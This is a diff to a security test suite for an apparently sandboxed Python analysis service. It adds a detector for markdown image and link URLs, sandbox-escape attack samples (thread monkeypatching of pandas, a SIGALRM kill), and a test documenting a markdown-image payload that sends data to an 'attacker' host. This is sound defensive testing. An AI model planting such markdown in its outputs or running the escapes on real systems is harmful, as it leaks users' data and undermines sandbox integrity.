@@ -163,6 +163,7 @@ def everything(outputs: list) -> str:
 
 
 _FENCE = re.compile(r"(```|~~~~)python\n.*?\n\1", re.S)
+_MD_URL = re.compile(r"!\[[^\]]*\]\(|\]\(\s*(https?|javascript|data):|<https?://", re.I)
 _SAFE_TAGS = {"table", "thead", "tbody", "tfoot", "tr", "th", "td", "div", "p", "span", "br",
               "style", "caption", "b", "i", "em", "strong", "small", "code", "pre"}
 
@@ -196,6 +197,8 @@ def assert_outputs_safe(outputs: list) -> None:
         if isinstance(markdown, str):
             prose = _FENCE.sub("", markdown)  # code shown in a fence renders as text
             assert not html_problems(prose), f"unsafe text/markdown {html_problems(prose)}: {markdown[:300]}"
+            # Markdown images and links load URLs in the reader's browser: an exfiltration channel.
+            assert not _MD_URL.search(prose), f"markdown image or link in: {markdown[:300]}"
         for mime in data:
             assert mime in ("text/plain", "text/html", "text/markdown", "image/png", "image/jpeg"), (
                 f"unexpected mime type {mime} in {o['msg_type']}")
@@ -593,7 +596,7 @@ ATTACKS = [
            " and getattr(o, '__module__', '') in ('_thread', None) and 'no_threads' not in repr(o)][0]\n"
            "def loop():\n    while True:\n        try:\n            pd.DataFrame.sum = lambda *a, **k: 42\n            time.sleep(0.01)\n"
            "        except BaseException:\n            pass\nstart(loop, ())\ntime.sleep(0.1)\nresult = 1",
-           must_fail=False, after=_sum_after),
+           must_fail=False, after=_sum_after, check=_unless_refused(_expect_text("worker was restarted"))),
     Attack("alarm-signal", "integrity",
            "import signal, os\nsignal.signal(signal.SIGALRM, lambda *a: os._exit(3))\nsignal.alarm(1)\nresult = 1",
            after=lambda b: time.sleep(1.5), must_fail=False),
@@ -652,6 +655,19 @@ def test_escape(bench: Bench, attack: Attack):
     if attack.after is not None:
         attack.after(bench)
     bench.assert_healthy()
+
+
+@pytest.mark.timeout(120)
+@pytest.mark.xfail(strict=True, reason=(
+    "question.rs escapes HTML in the interpretation but leaves markdown images/links active: "
+    "an injected ![](https://attacker/?q=<data>) makes the reader's browser send data out. "
+    "Fix in show_interpretation (escape '![' / '](' or render the interpretation as text)."))
+def test_interpretation_markdown_image_exfiltration(bench: Bench):
+    url = f"http://127.0.0.1:{bench.tcp_port}/?leak=revenue-total"
+    reply, outputs = bench.ask("ATTACK-md-image", "result = float(df['revenue'].sum())",
+                               interpretation=f"Total shown above. ![chart]({url}) [details]({url})")
+    assert reply["status"] == "ok", show(outputs)
+    assert_outputs_safe(outputs)
 
 
 @pytest.mark.timeout(120)
